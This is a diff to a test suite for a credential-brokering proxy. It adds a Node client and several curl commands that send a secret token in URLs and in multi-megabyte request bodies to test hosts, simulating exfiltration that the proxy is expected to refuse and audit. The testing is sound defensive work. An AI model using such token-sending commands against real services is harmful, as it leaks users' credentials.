@@ -159,6 +159,39 @@ function websocketEcho(expectedKey: string): UpgradeHandler {
  *          status line, sends the text frame $WSTEXT (default "ping") and prints the answer frame as
  *          "frame TEXT"; "error closed" when the connection ends first.
  */
+/**
+ * A client that writes its whole request (a placeholder, then 16 MB) before it reads a byte of the
+ * answer, as simple clients do: `node late-reader.cjs http|https HOST:PORT PATH`. A guardian that
+ * closed the connection right after its 403 made its writes fail before it ever read the answer.
+ */
+const LATE_READER = String.raw`
+const net = require("node:net"), tls = require("node:tls");
+const [mode, target, path] = process.argv.slice(2);
+const proxy = new URL(process.env.HTTP_PROXY);
+const auth = "Basic " + Buffer.from(decodeURIComponent(proxy.username) + ":" + decodeURIComponent(proxy.password)).toString("base64");
+const body = Buffer.concat([Buffer.from("t=" + process.env.TOKEN + "&pad="), Buffer.alloc(16 << 20, 97)]);
+setTimeout(() => { console.log("error timeout"); process.exit(1); }, 20000).unref();
+const head = (line, extra) => line + "\r\nHost: " + target + "\r\n" + extra + "Content-Length: " + body.length + "\r\n\r\n";
+const send = (socket, request) => {
+  socket.pause();
+  socket.on("error", (e) => { console.log("error " + (e.code || e.message)); process.exit(1); });
+  socket.write(request);
+  socket.write(body, () => {
+    let text = "";
+    socket.setEncoding("latin1");
+    socket.on("data", (d) => { text += d; const m = /^HTTP\/1\.1 (\d+)/.exec(text); if (m) { console.log("status " + m[1]); process.exit(0); } });
+    socket.resume();
+  });
+};
+const s = net.connect(Number(proxy.port), proxy.hostname, () => {
+  if (mode === "http") return send(s, head("POST http://" + target + path + " HTTP/1.1", "Proxy-Authorization: " + auth + "\r\n"));
+  s.write("CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\nProxy-Authorization: " + auth + "\r\n\r\n");
+  s.once("data", () => {
+    const t = tls.connect({ socket: s, servername: target.split(":")[0], ALPNProtocols: ["http/1.1"] }, () => send(t, head("POST " + path + " HTTP/1.1", "")));
+  });
+});
+`;
+
 const NODE_CLIENT = String.raw`
 const http = require("node:http"), https = require("node:https"), tls = require("node:tls"), crypto = require("node:crypto");
 const [mode, target, path] = process.argv.slice(2);
@@ -304,6 +337,7 @@ describe("credential broker: placeholders swapped on the way out", () => {
     inspected = await startTlsServer(ca, ["other.test"], { host: inspectedAddress, port: 443 }).catch((error: unknown) => (error instanceof Error ? error : new Error(String(error))));
     copyFileSync(ca.certFile, join(t.project, "test-ca.pem"));
     writeFileSync(join(t.project, "client.cjs"), NODE_CLIENT);
+    writeFileSync(join(t.project, "late-reader.cjs"), LATE_READER);
     trustUpstreamCa(t.home, ca.certFile);
     for (const [name, value, flags] of [
       ["gh", SECRET, ["--host", `api.test:${api.port}`, "--header", "Authorization: Bearer {}"]],
@@ -426,17 +460,32 @@ describe("credential broker: placeholders swapped on the way out", () => {
         `curl -sS -m 10 -w '\\n%{http_code}\\n' "${plainUrl("/url?t=")}$TOKEN"`,
         `curl -sS -m 10 -w '\\n%{http_code}\\n' "${plainUrl("/encoded?t=")}${PERCENT_ENCODE}"`,
         `curl -sS -m 10 -w '\\n%{http_code}\\n' --data "t=$TOKEN" ${plainUrl("/body")}`,
+        // Large bodies: the placeholder at the start of 3 MB still being sent when the guardian
+        // answers (the client must read the 403, not a reset), and after 200 KB already sent on.
+        `{ printf %s "$TOKEN"; head -c 3000000 /dev/zero | tr '\\0' a; } > /tmp/early`,
+        `curl -sS -m 10 -w '\\n%{http_code}\\n' --data-binary @/tmp/early ${plainUrl("/body-early")}`,
+        `{ head -c 200000 /dev/zero | tr '\\0' a; printf %s "$TOKEN"; } > /tmp/big`,
+        `curl -sS -m 10 -w '\\n%{http_code}\\n' --data-binary @/tmp/big ${plainUrl("/body-big")}`,
       ].join("; "),
     );
-    assert.deepEqual(statusCodes(r.stdout), ["403", "403", "403", "403"], r.stdout + r.stderr);
+    assert.deepEqual(statusCodes(r.stdout), Array(6).fill("403"), r.stdout + r.stderr);
     for (const path of ["/header", "/url", "/encoded"]) assert.equal(requestsTo(plain, path).length, 0, path);
-    assert.ok(requestsTo(plain, "/body").every((request) => !request.body.includes(r.placeholder)));
+    for (const path of ["/body", "/body-early", "/body-big"]) assert.ok(requestsTo(plain, path).every((request) => !request.body.includes(r.placeholder)), path);
     assert.ok(!plain.received.includes(r.placeholder), "the upstream never received the placeholder's bytes");
     await waitUntil("every sighting is audited", () => {
       const entries = audit();
       const sighting = { type: "credential.exfiltration", name: "gh", host: "plain.test", port: plain.port, protocol: "http" };
       return hasEntry(entries, { ...sighting, where: "header", header: "authorization" }) && hasEntry(entries, { ...sighting, where: "url" }) && hasEntry(entries, { ...sighting, where: "body" });
     });
+  });
+
+  it("a refused body is answered even to a client that reads only after sending all of it: the guardian reads the rest and drops it", async () => {
+    const r = await run(`node late-reader.cjs http plain.test:${plain.port} /late-plain; node late-reader.cjs https api.test:${api.port} /late-tls`);
+    assert.deepEqual(r.stdout.split("\n").filter((line) => /^(status|error) /.test(line)), ["status 403", "status 403"], r.stdout + r.stderr);
+    for (const [server, path] of [[plain, "/late-plain"], [api, "/late-tls"]] as const) {
+      assert.ok(requestsTo(server, path).every((request) => !request.body.includes(r.placeholder)), path);
+    }
+    assert.ok(!plain.received.includes(r.placeholder) && !api.received.includes(r.placeholder), "an upstream received the placeholder's bytes");
   });
 
   it("an origin echoing the real value back in a response body does not hand it to the cloister: the response is cut and audited", async () => {
